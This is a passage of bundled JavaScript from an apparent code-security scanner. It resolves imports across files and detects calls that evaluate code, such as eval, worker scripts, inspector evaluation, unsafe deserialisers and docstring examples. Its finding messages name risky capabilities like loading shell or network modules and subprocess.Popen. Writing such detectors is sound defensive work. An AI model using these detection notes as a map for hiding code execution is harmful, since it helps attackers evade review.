  mayName(specifier) {
    if (!specifier.startsWith(".")) return true;
    const last = specifier.slice(specifier.lastIndexOf("/") + 1);
    return last === "" || last === "." || last === ".." || this.stems.has(last.replace(/\.[cm]?[jt]sx?$/, ""));
  }
  /** A Python `from . import _compat`: the submodule file the name is, when the package does not bind it. */
  submodule(file, link2, name2) {
    if (!file.endsWith(".py")) return void 0;
    return this.resolveSpecifier(file, link2.specifier.endsWith(".") ? link2.specifier + name2 : `${link2.specifier}.${name2}`);
  }
  /** Does any import of `file` name a watched value of another project file? Only such files need a second look. */
  importsWatched(file) {
    const anyName = this.wholeDefault;
    const python = file.endsWith(".py");
    for (const link2 of this.files.get(file)?.links ?? []) {
      const namespace = link2.namespace !== void 0 || link2.inline === true;
      if (python ? !namespace && !link2.names.some(([imported]) => imported === "*" || this.offered.has(imported) || this.stems.has(imported)) : !this.mayName(link2.specifier)) continue;
      if (!python && !namespace && !anyName && !link2.names.some(([imported]) => imported === "*" || this.offered.has(imported))) continue;
      const target = this.resolveSpecifier(file, link2.specifier);
      if (target && namespace && Object.keys(this.exportsOf(target)).length) return true;
      for (const [imported] of link2.names) {
        if (target && (imported === "*" || (anyName || this.offered.has(imported)) && this.lookup(target, imported) !== void 0)) return true;
        if (target && this.offered.has(imported) && Object.keys(this.exportsOf(target)).some((name2) => name2.startsWith(`${imported}.`))) return true;
        const sub = this.submodule(file, link2, imported);
        if (sub && Object.keys(this.exportsOf(sub)).length) return true;
      }
    }
    return false;
  }
  /** Every project file `file`'s links may reach: each specifier's file and, in Python, the submodule each imported name may be. */
  linkedFiles(file) {
    const out2 = /* @__PURE__ */ new Set();
    for (const link2 of this.files.get(file)?.links ?? []) {
      const target = this.resolveSpecifier(file, link2.specifier);
      if (target) out2.add(target);
      for (const [imported] of link2.names) {
        const sub = this.submodule(file, link2, imported);
        if (sub) out2.add(sub);
      }
    }
    return [...out2];
  }
  /**
   * What the files `file` links to offer it, steps' places included, as one string: two scans of `file` with equal
   * strings resolve its imports alike (a kept rescan, or an editor's re-analysis of its edited statements, may be reused).
   */
  offersTo(file) {
    return JSON.stringify(this.linkedFiles(file).map((target) => [target, this.exportsOf(target)]));
  }
  /** Does `file` import (a name or a submodule of) one of `targets`? */
  importsAny(file, targets) {
    for (const link2 of this.files.get(file)?.links ?? []) {
      const target = this.resolveSpecifier(file, link2.specifier);
      if (target && targets.has(target)) return true;
      for (const [imported] of link2.names) {
        const sub = this.submodule(file, link2, imported);
        if (sub && targets.has(sub)) return true;
      }
    }
    return false;
  }
  /** The view one file's analyzer gets. */
  forFile(file) {
    return {
      lookup: (specifier, name2) => {
        const target = this.resolveSpecifier(file, specifier);
        return target ? this.lookup(target, name2) : void 0;
      },
      exportsOf: (specifier) => {
        const target = this.resolveSpecifier(file, specifier);
        return target ? this.exportsOf(target) : {};
      },
      resolves: (specifier) => this.resolveSpecifier(file, specifier) !== void 0
    };
  }
};
function bindNamespace(bindings, local, exports2, site) {
  const names = Object.entries(exports2);
  for (const [name2, path2] of names) bindings.bindSlot(`${local}.${name2}`, through(path2, site));
  return names.length > 0;
}
function membersOf(exports2, name2) {
  const prefix = `${name2}.`;
  return Object.fromEntries(Object.entries(exports2).flatMap(([key, path2]) => key.startsWith(prefix) ? [[key.slice(prefix.length), path2]] : []));
}
function stemOf(file) {
  const base = import_node_path3.posix.basename(file).replace(/\.[^.]*$/, "");
  return base === "index" || base === "__init__" ? import_node_path3.posix.basename(import_node_path3.posix.dirname(file)) : base;
}
function ancestors(dir) {
  const out2 = [dir];
  while (out2[out2.length - 1] !== "." && out2.length <= MAX_RESOLVE_DEPTH) out2.push(import_node_path3.posix.dirname(out2[out2.length - 1]));
  return out2;
}
function placed(path2, hop2) {
  return { ...path2, via: [{ start: 0, end: 0, tracked: true, placed: hop2 }, ...path2.via ?? []].slice(0, MAX_HOPS) };
}
function sameOffer(was, now) {
  const same = (a, b) => a === b || a !== void 0 && b !== void 0 && a.module === b.module && a.returns === b.returns && a.members.join("\0") === b.members.join("\0");
  const names = Object.keys(now.exports);
  return same(was.whole, now.whole) && names.length === Object.keys(was.exports).length && names.every((name2) => same(was.exports[name2], now.exports[name2]));
}

// core/scan/scan.ts
var import_node_fs2 = require("node:fs");
var import_tree_sitter_wasm3 = __toESM(require_tree_sitter());

// core/kernel/resolution.ts
function stepOf(value) {
  const s = value;
  const whole = (n) => typeof n === "number" && Number.isInteger(n) && n >= 1;
  if (!s || typeof s !== "object" || !whole(s.line) || !whole(s.column) || !whole(s.endLine) || !whole(s.endColumn) || typeof s.text !== "string") return void 0;
  if (s.file !== void 0 && typeof s.file !== "string") return void 0;
  return s;
}
function resolutionOf(f) {
  const raw = f.properties?.resolution;
  return Array.isArray(raw) ? raw.map(stepOf).filter((s) => s !== void 0) : [];
}

// core/kernel/limits.ts
var DEFAULT_MAX_FILE_BYTES = 10 * 1024 * 1024;

// core/kernel/rule.ts
var DOCS_BASE = "https://github.com/flowgate-dev/flowgate/blob/main/docs/rules.md";
var registry = /* @__PURE__ */ new Map();
function anchorOf(id) {
  return id.toLowerCase().replace(/[^a-z0-9]+/g, "-").replace(/^-|-$/g, "");
}
function defineRule(def) {
  if (registry.has(def.id)) throw new Error(`duplicate rule id ${def.id}`);
  const helpUri = `${DOCS_BASE}#${anchorOf(def.id)}`;
  const rule = {
    ...def,
    helpUri,
    at(file, range, ...args2) {
      return {
        rule: def.id,
        severity: def.severity,
        message: def.message(...args2),
        file,
        ...range,
        help: { text: def.help, uri: helpUri },
        category: def.category
      };
    }
  };
  registry.set(def.id, rule);
  return rule;
}
function withFix(finding, ...fixes) {
  return { ...finding, fix: [...finding.fix ?? [], ...fixes] };
}

// core/kernel/source/lines.ts
var LineIndex = class {
  constructor(text) {
    this.text = text;
    if (!text.includes("\r")) {
      for (let i2 = text.indexOf("\n"); i2 >= 0; i2 = text.indexOf("\n", i2 + 1)) this.starts.push(i2 + 1);
      return;
    }
    for (let i2 = 0; i2 < text.length; i2++) {
      const c = text.charCodeAt(i2);
      if (c === 10) this.starts.push(i2 + 1);
      else if (c === 13 && text.charCodeAt(i2 + 1) !== 10) this.starts.push(i2 + 1);
    }
  }
  text;
  starts = [0];
  get lineCount() {
    return this.starts.length;
  }
  position(offset) {
    const o = Math.max(0, Math.min(offset, this.text.length));
    let lo = 0;
    let hi = this.starts.length - 1;
    while (lo < hi) {
      const mid = lo + hi + 1 >> 1;
      if (this.starts[mid] <= o) lo = mid;
      else hi = mid - 1;
    }
    return { line: lo + 1, column: o - this.starts[lo] + 1 };
  }
  offset(line, column) {
    const start3 = this.starts[Math.max(0, Math.min(line - 1, this.starts.length - 1))];
    return Math.min(start3 + column - 1, this.text.length);
  }
  range(start3, end) {
    const a = this.position(start3);
    const b = this.position(Math.max(start3, end));
    return { line: a.line, column: a.column, endLine: b.line, endColumn: b.column };
  }
  /** The text of a 1-based line without its terminator. */
  lineText(line) {
    const start3 = this.starts[line - 1];
    if (start3 === void 0) return "";
    const next = this.starts[line] ?? this.text.length;
    return this.text.slice(start3, next).replace(/\r?\n$|\r$/, "");
  }
};

// core/kernel/whole-file.ts
var WHOLE_FILE = { line: 1, column: 1, endLine: 1, endColumn: 1 };

// core/scan/analysis.ts
var import_tree_sitter_wasm2 = __toESM(require_tree_sitter());
var storedInParameterNote = (target, parameter, owner) => `It is stored in \`${target}\`, a member of \`${parameter}\`, which \`${owner}\`'s caller hands it: that caller's object holds it`;
var storedInGlobalNote = (target) => `It is stored in \`${target}\`, a property of the global object: code in any file may call it by its bare name`;
var storedInModuleNote = (target, module2) => `It is stored in \`${target}\`, a member of the module \`${module2}\`, which every file loading that module shares`;
var STORED_IN_MODULE_CACHE_NOTE = "It is stored in the module cache (`require.cache`): a later `require` of that module returns it";
var LOADER_TABLE = "it changes or calls the table by which `require` runs a file by its extension, so any file, whatever its name, may run as JavaScript";
var THROWN_NOTE = "It is thrown: whoever catches it gets it";
var storedInPrototypeNote = (target) => `It is stored in \`${target}\`, a prototype: every object that inherits from it reads it, and may call it`;
var LITERAL_PROTOTYPE_NOTE = "It is in an object literal's prototype (`__proto__`): every read of that object's members, `super.\u2026` in its methods too, may be it";
var storedThroughSetterNote = (target, setter) => `It is stored in \`${target}\`, which a setter (\`set ${setter}\`) of the file may receive and call`;
var UNREAD_LOAD = "it loads a module named at run time, which may be any, a shell or network module included, or the code of a data: URL";
var EVERY_CLASS = "it lists every class the process loaded, which it may pick any of by a name built at run time, `subprocess.Popen` included";
var NATIVE_ADDON = "it loads a native addon, whose code the scan cannot read";
var YIELDED = "yield";
var YIELDED_NOTE = "It is yielded by a generator: whatever consumes the generator gets it";
var commentText = ({ startIndex, endIndex, text }) => ({ startIndex, endIndex, text });
var QueryTimeout = class extends Error {
  name = "QueryTimeout";
};
var Deadline = class {
  constructor(limitMs) {
    this.limitMs = limitMs;
    this.at = performance.now() + limitMs;
  }
  limitMs;
  at;
  check() {
    if (performance.now() > this.at) throw new QueryTimeout(`analysing the file took over ${this.limitMs} ms`);
  }
};
function collectCaptures(queries, root, timeLimitMs) {
  const out2 = { scopes: new ScopeIndex(root.id), comments: [], imports: [], callees: [], definitions: [], locals: [], args: [] };
  let pendingName;
  let ambientEnd = -1;
  let pendingLoop;
  const started = performance.now();
  const run2 = (query) => {
    const found = query.captures(root, { timeoutMicros: Math.max(1, Math.round((timeLimitMs - (performance.now() - started)) * 1e3)) });
    if (performance.now() - started >= timeLimitMs) throw new QueryTimeout(`searching the syntax tree took over ${timeLimitMs} ms`);
    return found;
  };
  const captures = run2(queries.main);
  if (queries.comments) for (const { node } of run2(queries.comments)) out2.comments.push(node);
  for (const { name: name2, node } of captures) {
    switch (name2) {
      case "scope":
        out2.scopes.add(node);
        break;
      case "scope.class":
        out2.scopes.add(node, true);
        break;
      case "import":
        out2.imports.push(node);
        break;
      case "callee":
        out2.callees.push([node, "call"]);
        break;
      case "arg":
        out2.args.push(node);
        break;
      case "arg.container":
        handedValues(node, out2.args);
        break;
      case "new":
        out2.callees.push([node, "new"]);
        break;
      case "def.name":
        pendingName = node;
        break;
      case "def.value":
        if (pendingName) out2.definitions.push([pendingName, node]);
        pendingName = void 0;
        break;
      // `with asyncio.Runner() as r`, `with socket.socket() as s`: the name is bound to the manager (the standard library's
      // and most libraries' `__enter__` return the manager itself).
      case "def.with": {
        const bound = node.namedChild(0);
        const value = bound?.type === "as_pattern" ? bound.namedChild(0) : null;
        const name3 = bound?.type === "as_pattern" ? bound.childForFieldName("alias")?.namedChild(0) : null;
        if (value && name3?.type === "identifier") out2.definitions.push([name3, value]);
        break;
      }
      case "field": {
        const name3 = node.childForFieldName("name") ?? node.childForFieldName("property");
        const value = node.childForFieldName("value");
        if ((name3?.type === "property_identifier" || name3?.type === "private_property_identifier") && value) out2.definitions.push([name3, value]);
        break;
      }
      case "loop":
        pendingLoop = node;
        break;
      case "unpack":
        for (const pair of unpacked(node, pendingLoop)) out2.definitions.push(pair);
        pendingLoop = void 0;
        break;
      case "match":
        for (const pair of captured(node)) out2.definitions.push(pair);
        break;
      case "decorated":
        for (const pair of decorated(node)) out2.definitions.push(pair);
        break;
      case "ambient":
        ambientEnd = Math.max(ambientEnd, node.endIndex);
        break;
      case "local":
        if (node.startIndex >= ambientEnd) out2.locals.push([node, false]);
        break;
      case "outer":
        if (node.startIndex >= ambientEnd) out2.locals.push([node, true]);
        break;
    }
  }
  out2.scopes.seal();
  return out2;
}
var JS_HANDED_THROUGH = /* @__PURE__ */ new Set(["object", "array", "pair", "spread_element"]);
var MAX_HANDED_DEPTH = 64;
var TOO_DEEP = "<too deep>";
var NESTED_TOO_DEEP = `a value nested more than ${MAX_HANDED_DEPTH} levels deep`;
var HANDED_VALUES = /* @__PURE__ */ new Set(["identifier", "member_expression", "shorthand_property_identifier"]);
function handedValues(container, into) {
  const pending = [container];
  for (let node = pending.pop(); node; node = pending.pop()) {
    if (HANDED_VALUES.has(node.type)) into.push(node);
    else if (node.type === "pair") {
      const value = node.childForFieldName("value");
      if (value) pending.push(value);
    } else if (JS_HANDED_THROUGH.has(node.type)) {
      const inner = node.namedChildren;
      for (let i2 = inner.length - 1; i2 >= 0; i2--) if (inner[i2]) pending.push(inner[i2]);
    }
  }
}
var UNPACKED_TARGETS = /* @__PURE__ */ new Set(["identifier", "attribute", "subscript"]);
var TARGET_PATTERNS = /* @__PURE__ */ new Set(["pattern_list", "tuple_pattern", "list_pattern"]);
var WRITTEN_SEQUENCES = /* @__PURE__ */ new Set(["expression_list", "tuple", "list"]);
var ELEMENT = "<element>";
function unpacked(right, loopTarget) {
  const target = loopTarget ?? right.parent.childForFieldName("left");
  if (!target) return [];
  const out2 = [];
  const pending = [[target, right, loopTarget ? [ELEMENT] : []]];
  for (let next = pending.pop(); next; next = pending.pop()) {
    const [pattern, value, steps] = next;
    if (UNPACKED_TARGETS.has(pattern.type)) {
      out2.push(steps.length ? [pattern, value, steps] : [pattern, value]);
      continue;
    }
    if (!TARGET_PATTERNS.has(pattern.type) || steps.length >= MAX_RESOLVE_DEPTH) continue;
    const targets = elementsOf(pattern);
    const star = targets.findIndex((t) => t.type === "list_splat_pattern");
    const after = star < 0 ? 0 : targets.length - 1 - star;
    const written = steps.length === 0 && WRITTEN_SEQUENCES.has(value.type) ? elementsOf(value) : void 0;
    const lined = written?.some((v) => v.type === "list_splat") ? void 0 : written;
    if (lined && (star < 0 ? lined.length !== targets.length : lined.length < targets.length - 1)) continue;
    for (let i2 = targets.length - 1; i2 >= 0; i2--) {
      const t = targets[i2];
      if (i2 === star) {
        const name2 = elementsOf(t)[0];
        if (name2) pending.push([name2, value, [...steps, { from: i2, to: lined ? lined.length - after : void 0 }]]);
      } else if (lined) pending.push([t, lined[star >= 0 && i2 > star ? lined.length - (targets.length - i2) : i2], []]);
      else pending.push([t, value, [...steps, star >= 0 && i2 > star ? ELEMENT : i2]]);
    }
  }
  return out2;
}
var elementsOf = (node) => node.namedChildren.filter((child) => child !== null && !isComment(child));
function captured(match) {
  const body2 = match.childForFieldName("body");
  if (!body2) return [];
  const pairs = [];
  const named2 = (name2, pattern) => {
    if (name2?.type === "identifier" && name2.text !== "_") pairs.push([name2, pattern]);
  };
  const pending = [];
  for (const clause of body2.namedChildren) if (clause?.type === "case_clause") {
    for (const part of namedChildrenOf(clause)) if (part.type === "case_pattern") pending.push(part);
  }
  for (let pattern = pending.pop(); pattern; pattern = pending.pop()) {
    const parts2 = namedChildrenOf(pattern);
    switch (pattern.type) {
      // A name alone captures; a dotted one (`case Color.RED:`) is a value compared.
      case "dotted_name":
        if (parts2.length === 1) named2(parts2[0], pattern);
        break;
      case "splat_pattern":
        named2(parts2[0], pattern);
        break;
      case "as_pattern":
        named2(parts2.at(-1), pattern);
        if (parts2[0]) pending.push(parts2[0]);
        break;
      // The class named first, then its patterns; a keyword's pattern after the keyword.
      case "class_pattern":
      case "keyword_pattern":
        pending.push(...parts2.slice(1));
        break;
      case "case_pattern":
      case "list_pattern":
      case "tuple_pattern":
      case "dict_pattern":
      case "union_pattern":
        pending.push(...parts2);
    }
  }
  return pairs.sort(([a], [b]) => a.startIndex - b.startIndex);
}
function decorated(definition) {
  const name2 = definition.childForFieldName("definition")?.childForFieldName("name");
  return name2 ? definition.namedChildren.filter((child) => child?.type === "decorator").map((decorator) => [name2, decorator]) : [];
}
var compiled = /* @__PURE__ */ new Map();
var commentsQuery = (language) => `[${[...COMMENT_TYPES].filter((type) => language.idForNodeType(type, true) !== null).map((type) => `(${type})`).join(" ")}] @comment`;
function compiledQuery(language, text) {
  let byLanguage = compiled.get(language);
  if (!byLanguage) compiled.set(language, byLanguage = /* @__PURE__ */ new Map());
  let query = byLanguage.get(text);
  if (!query) byLanguage.set(text, query = new import_tree_sitter_wasm2.Query(language, text));
  return query;
}
function queryOf(language, source, comments) {
  return { main: compiledQuery(language, source), comments: comments ? compiledQuery(language, commentsQuery(language)) : void 0 };
}

// core/scan/evaluators.ts
var MAX_CODE_DEPTH = 2;
var BODY_FUNCTION = "evaluated";
var OWN_CODE = /\.\s*__code__$/;
var USES = /* @__PURE__ */ new Set(["attribute", "member_expression", "call", "call_expression", "subscript", "subscript_expression"]);
function evaluatedCode(call2, evaluator, constants, source) {
  if (evaluator.reads === "annotations") return !evaluator.unsafeWith || loadsUnsafely(namedChildrenOf(call2), evaluator.unsafeWith) ? annotationsCode(call2, constants, source) : void 0;
  if (evaluator.reads === "chosen") return { unread: "it is a builtin picked by a name the scan cannot read: exec or eval among them" };
  if (evaluator.reads === "stream") return { unread: "it runs what it reads from a stream: a terminal or a socket" };
  if (evaluator.reads === "main") return { unread: "it runs, as the main module, whatever file `process.argv[1]` names, which the program may set" };
  const args2 = namedChildrenOf(call2);
  if (evaluator.reads === "docstrings") return docstringsCode(call2, args2, evaluator.subject, constants, source);
  if (evaluator.reads === "file") return { unread: args2.length ? "it runs a file, module or native library it is given by name" : "it runs as a module what its methods read" };
  if (args2.length === 0) return void 0;
  if (args2.some((arg) => arg.type === "spread_element" || arg.type === "list_splat" || arg.type === "dictionary_splat")) return { unread: "its arguments are spread" };
  if (evaluator.reads === "name") {
    if (evaluator.loadedBy && !loadedInPlace(call2, evaluator.loadedBy)) return void 0;
    return namedArgument(args2, evaluator.subject, constants) === void 0 ? { unread: "it imports whatever module and member a name it is given names" } : void 0;
  }
  if (evaluator.reads === "bytecode") return OWN_CODE.test(args2[0].text) ? void 0 : { unread: "it runs a compiled code object or its bytes, which the scan does not read" };
  if (evaluator.reads === "data") return !evaluator.unsafeWith || loadsUnsafely(args2, evaluator.unsafeWith) ? { unread: "loading its data calls whatever function the data names" } : void 0;
  if (evaluator.reads === "worker" && !evalOption(args2[1])) return WORKER_SCRIPT.test(args2[0].text) ? void 0 : { unread: "it runs a file the scan may not read as JavaScript" };
  if (evaluator.reads === "inspector") return inspectorCode(args2, constants);
  if (evaluator.parameters) return parametersCode(args2, evaluator.parameters, constants);
  const codeArg = evaluator.reads === "body" ? args2[args2.length - 1] : args2[0];
  if (codeArg.type === "keyword_argument") return { unread: "its code is given by keyword" };
  const code = constants.stringOf(codeArg, 0, CODE);
  if (code === void 0) {
    if (evaluator.strings && !STRINGS.has(codeArg.type)) return void 0;
    return { unread: "its code is not a constant string" };
  }
  if (evaluator.reads === "program" || evaluator.reads === "worker") return { texts: [code] };
  if (evaluator.reads === "expression") {
    const use = evaluator.globalScope && nameChainOf(code, false) ? "" : useAfter(call2, source);
    return { texts: use ? [code, `(${code})${use}`] : [code] };
  }
  const params = [];
  for (const param of args2.slice(0, -1)) {
    const text2 = constants.stringOf(param, 0, CODE);
    if (text2 === void 0) return { unread: "its parameters are not constant strings" };
    params.push(text2);
  }
  const returned = evaluator.globalScope && !params.length ? nameChainOf(code, true) : void 0;
  const invoked = call2.parent?.type === "call_expression" && sameNode(call2.parent.childForFieldName("function"), call2) && !(returned && returned[0] !== "require") ? call2.parent : void 0;
  const text = [`function ${BODY_FUNCTION}() {${code}
}`, params.length ? `void [${params.join(",")}];` : "", invoked ? `${BODY_FUNCTION}()${useAfter(invoked, source)}` : ""].join("\n");
  return { texts: [text] };
}
function loadedInPlace(call2, method) {
  const member = (call2.type === "call" ? call2 : call2.parent)?.parent;
  return member?.type === "attribute" && member.childForFieldName("attribute")?.text === method && member.parent?.type === "call";
}
function namedArgument(args2, subject, constants) {
  const given2 = subjectArgument(args2, subject);
  return given2 ? constants.stringOf(given2) : void 0;
}
function subjectArgument(args2, subject) {
  const keyword = args2.find((arg) => arg.type === "keyword_argument" && arg.childForFieldName("name")?.text === subject.keyword);
  const given2 = keyword ? keyword.childForFieldName("value") : args2[subject.position];
  return given2 && given2.type !== "keyword_argument" ? given2 : void 0;
}
function rootOf(node) {
  let root = node;
  while (root.parent) root = root.parent;
  return root;
}
function afterFile(source, what, code, lines) {
  let fromLine = 2;
  for (const _ of source.matchAll(/\r\n|\r|\n/g)) fromLine++;
  return { texts: [`${source}
${code.join("\n")}`], examples: { what, fromLine, lines } };
}
function docstringsCode(call2, args2, subject, constants, source) {
  if (args2.some((arg) => arg.type === "list_splat" || arg.type === "dictionary_splat")) return { unread: "its arguments are spread" };
  const given2 = subjectArgument(args2, subject);
  const root = rootOf(call2);
  if (given2 && !OWN_MODULE.test(given2.text.replace(/\s+/g, "")) && !(given2.type === "identifier" && definedAtTop(root, given2.text))) {
    return { unread: "it runs the examples in the docstrings of a module or object it is given, which the scan does not read" };
  }
  const examples = docExamples(root, constants);
  return examples.code.length ? afterFile(source, "a docstring example", examples.code, examples.lines) : void 0;
}
function annotationsCode(call2, constants, source) {
  const code = [];
  const lines = [];
  const visit = (node, annotation) => {
    if (annotation && node.type === "string") {
      const text = constants.stringOf(node, 0, CODE);
      if (text !== void 0) {
        code.push(`(${text.replace(/\r\n|\r|\n/g, " ")})`);
        lines.push({ at: node.startIndex, exact: false });
      }
      return;
    }
    for (const child of node.namedChildren) {
      if (!child) continue;
      const field = ANNOTATION_FIELDS.get(node.type);
      visit(child, annotation || field !== void 0 && sameNode(node.childForFieldName(field), child));
    }
  };
  visit(rootOf(call2), false);
  return code.length ? afterFile(source, "a string annotation", code, lines) : void 0;
}
var ANNOTATION_FIELDS = /* @__PURE__ */ new Map([
  ["typed_parameter", "type"],
  ["typed_default_parameter", "type"],
  ["function_definition", "return_type"],
  ["assignment", "type"]
]);
var OWN_MODULE = /^(?:None|sys\.modules\[__name__\])$/;
function definedAtTop(root, name2) {
  return root.namedChildren.some((node) => {
    const definition = node?.type === "decorated_definition" ? node.childForFieldName("definition") : node;
    return (definition?.type === "function_definition" || definition?.type === "class_definition") && definition.childForFieldName("name")?.text === name2;
  });
}
var PS1 = /^([ \t]*)>>>(?: |$)/;
var PS2 = /^[ \t]*\.\.\.(?: |$)/;
function docStrings(root) {
  const found = [];
  const stack = [root];
  while (stack.length) {
    const node = stack.pop();
    if (node.type === "module" || node.type === "block") {
      const first = node.namedChildren.find((child) => child?.type !== "comment");
      const value = first?.type === "expression_statement" && first.namedChildCount === 1 ? first.namedChild(0) : void 0;
      if (value?.type === "string" || value?.type === "concatenated_string") found.push(value);
    }
    if (node.type === "assignment" && node.childForFieldName("left")?.text === "__test__" && node.childForFieldName("right")?.type === "dictionary") {
      for (const pair of node.childForFieldName("right").namedChildren) {
        const value = pair?.type === "pair" ? pair.childForFieldName("value") : void 0;
        if (value?.type === "string" || value?.type === "concatenated_string") found.push(value);
      }
    }
    for (const child of node.namedChildren) if (child && child.type !== "string" && child.type !== "comment") stack.push(child);
  }
  return found;
}
function docExamples(root, constants) {
  const code = [];
  const lines = [];
  for (const node of docStrings(root)) {
    const verbatim = node.type === "string" ? stringValue(node) : void 0;
    const text = verbatim ?? constants.stringOf(node, 0, CODE);
    if (text === void 0 || !text.includes(">>>")) continue;
    const start3 = verbatim !== void 0 && node.child(0)?.type === "string_start" ? node.child(0).endIndex : node.startIndex;
    let indent;
    let at = 0;
    for (const line of text.split(/(?<=\r\n|\r(?!\n)|\n)/)) {
      const content = line.replace(/\r?\n$|\r$/, "");
      const prompt = PS1.exec(content);
      const continued = indent !== void 0 && PS2.test(content) && content.startsWith(indent);
      if (prompt || continued) {
        const skip = (prompt ? prompt[1].length : indent.length) + 4;
        if (prompt) indent = prompt[1];
        code.push(content.slice(skip));
        lines.push({ at: verbatim !== void 0 ? start3 + at + Math.min(skip, content.length) : node.startIndex, exact: verbatim !== void 0 });
      } else indent = void 0;
      at += line.length;
    }
  }
  return { code, lines };
}
var RETURNED_NAME = /^\s*return\s+([^;]*?)\s*;?\s*$/;
var EVALUATED_NAME = /^\s*([^;]*?)\s*;?\s*$/;
function nameChainOf(code, body2) {
  const expression = (body2 ? RETURNED_NAME : EVALUATED_NAME).exec(code)?.[1];
  const chain = expression === void 0 ? void 0 : simpleChain(expression);
  return chain?.length ? chain : void 0;
}
function loadsUnsafely(args2, unsafe) {
  const keyword = args2.find((arg) => arg.type === "keyword_argument" && arg.childForFieldName("name")?.text === unsafe.keyword);
  const positional = unsafe.position !== void 0 && args2[unsafe.position]?.type !== "keyword_argument" ? args2[unsafe.position] : void 0;
  const value = keyword ? keyword.childForFieldName("value") : positional;
  if (!value) return unsafe.absent === "unsafe";
  return value.type === "true" || value.type === "false" ? value.text === unsafe.value : true;
}
function parametersCode(args2, parameters, constants) {
  const positional = args2.findIndex((arg) => arg.type === "keyword_argument");
  const texts = [];
  for (const [i2, name2] of parameters.entries()) {
    const keyword = args2.find((arg2) => arg2.type === "keyword_argument" && arg2.childForFieldName("name")?.text === name2);
    const arg = keyword ? keyword.childForFieldName("value") : i2 < (positional < 0 ? args2.length : positional) ? args2[i2] : void 0;
    if (!arg) continue;
    const code = constants.stringOf(arg, 0, CODE);
    if (code !== void 0) texts.push(code);
    else if (arg.type !== "lambda") return { unread: "its code is not a constant string" };
  }
  return texts.length ? { texts } : void 0;
}
var INSPECTOR_EVALUATES = /* @__PURE__ */ new Map([
  ["Runtime.evaluate", "expression"],
  ["Runtime.compileScript", "expression"],
  ["Debugger.evaluateOnCallFrame", "expression"],
  ["Runtime.callFunctionOn", "functionDeclaration"]
]);
function inspectorCode(args2, constants) {
  const method = constants.stringOf(args2[0]);
  if (method === void 0) return { unread: "its method is not a constant string" };
  const parameter = INSPECTOR_EVALUATES.get(method);
  if (!parameter) return void 0;
  const params = args2[1];
  const property = params?.type === "object" ? namedChildrenOf(params).find((p) => (p.type === "pair" ? p.childForFieldName("key")?.text.replace(/['"]/g, "") : p.type === "shorthand_property_identifier" ? p.text : void 0) === parameter) : void 0;
  const code = constants.stringOf(property?.type === "pair" ? property.childForFieldName("value") : property, 0, CODE);
  return code === void 0 ? { unread: "its code is not a constant string" } : { texts: [`(${code})`] };
}
function evalOption(options) {
  return options?.type === "object" && namedChildrenOf(options).some((pair) => pair.type === "pair" && pair.childForFieldName("key")?.text.replace(/['"]/g, "") === "eval" && pair.childForFieldName("value")?.text === "true");
}
var WORKER_SCRIPT = /\.[cm]?[jt]sx?['"`]\s*(?:,\s*import\s*\.\s*meta\s*\.\s*url\s*)?\)?$|^__filename$|^import\s*\.\s*meta\s*\.\s*url$/;
var STRINGS = /* @__PURE__ */ new Set(["string", "template_string", "binary_expression", "concatenated_string"]);
function useAfter(call2, source) {
  let top = call2;
  for (let parent = top.parent; parent && USES.has(parent.type); parent = top.parent) {
    const held = parent.childForFieldName("object") ?? parent.childForFieldName("function") ?? parent.childForFieldName("value");
    if (!sameNode(held, top)) break;
    top = parent;
  }
  return source.slice(call2.endIndex, top.endIndex);
}
var sameNode = (a, b) => a?.startIndex === b.startIndex && a.endIndex === b.endIndex && a.type === b.type;
function codeOfCall(filter, constants, source, path2, form, call2, passed = false) {
  const evaluator = filter.evaluator(path2, form);
  if (!evaluator) return {};
  const code = passed ? evaluator.passed ? { unread: "it is passed as a value, to run what it is given" } : void 0 : call2 && evaluatedCode(call2, evaluator, constants, source);
  return code ? { code } : {};
}

// core/scan/detach.ts
function detached(s) {
  return s.length < 13 ? s : ` ${s}`.slice(1);
}
var hop = (h) => ({ ...h, text: detached(h.text) });
function path(p) {
  return {
    ...p,
    module: detached(p.module),
    members: p.members.map(detached),
    ...p.via ? { via: p.via.map((v) => v.placed ? { ...v, placed: hop(v.placed) } : v) } : {}
  };
}
function link(l) {
  return {
    ...l,
    specifier: detached(l.specifier),
    names: l.names.map(([imported, local]) => [detached(imported), detached(local)]),
    ...l.namespace !== void 0 ? { namespace: detached(l.namespace) } : {},
    ...l.hop ? { hop: hop(l.hop) } : {}
  };
}
function detachedSymbols(symbols) {
  return { exports: Object.fromEntries(Object.entries(symbols.exports).map(([name2, p]) => [name2, path(p)])), links: symbols.links.map(link) };
}

// core/scan/javascript-comments.ts
function someInCode(text, occurrences, outside = "comments") {
  const isCode = codeAt(text, outside);
  occurrences.lastIndex = 0;
  for (let m = occurrences.exec(text); m; m = occurrences.exec(text)) if (isCode(m.index)) return true;
  return false;
}
function codeAt(text, outside = "comments") {
  let reader;
  return (offset) => !(reader ??= new CommentReader(text)).inComment(offset, outside === "literals");
}
var EXPRESSION_BEFORE = new Set("(,=:[!&|?{};+-*%<>~^");
var EXPRESSION_KEYWORDS = /* @__PURE__ */ new Set(["return", "typeof", "instanceof", "in", "new", "delete", "void", "throw", "case", "do", "else", "default", "extends", "break", "continue", "debugger"]);
var LABEL_KEYWORDS = /* @__PURE__ */ new Set(["break", "continue"]);
var CONTEXTUAL_KEYWORDS = /* @__PURE__ */ new Set(["await", "yield", "of", "let", "async", "get", "set", "static"]);
var CODE_STOP = /["'`/{}<()]/g;
var HEAD_KEYWORDS = /* @__PURE__ */ new Set(["if", "while", "for", "with"]);
var IN_TEXT = -1;
var isIdentifierChar = (c) => /[\p{ID_Continue}$\u200c\u200d]/u.test(c);
var isSpace = (c) => /\s/.test(c);
var CommentReader = class {
  constructor(text) {
    this.text = text;
    if (text.startsWith("#!")) this.comment(0, lineEnd(text, 0));
    const html = [text.indexOf("<!--"), text.indexOf("-->")].filter((i2) => i2 >= 0);
    if (html.length) this.unsureFrom = Math.min(...html);
  }
  text;
  /** Comment ranges found so far, in order: [start, end). */
  comments = [];
  /** The same for literals: strings, template text (not its `${\u2026}`) and regular expressions. */
  literals = [];
  /** Where reading goes on; everything before it is classified. */
  at = 0;
  /** From here on, nothing is a comment (the reader met something it cannot read for sure). */
  unsureFrom = Number.POSITIVE_INFINITY;
  /** Open templates, innermost last: IN_TEXT, or the brace depth at which the `${\u2026}` the reader is in closes. */
  templates = [];
  depth = 0;
  /** Open parentheses, innermost last: does each close a statement head (`if (\u2026)`) rather than a value? */
  parens = [];
  /** Did the `)` at `previous` close a statement head? */
  previousClosedHead = false;
  /** The last character of code before `at` that was not white space or a comment (a literal's last character counts as a value). */
  previous = -1;
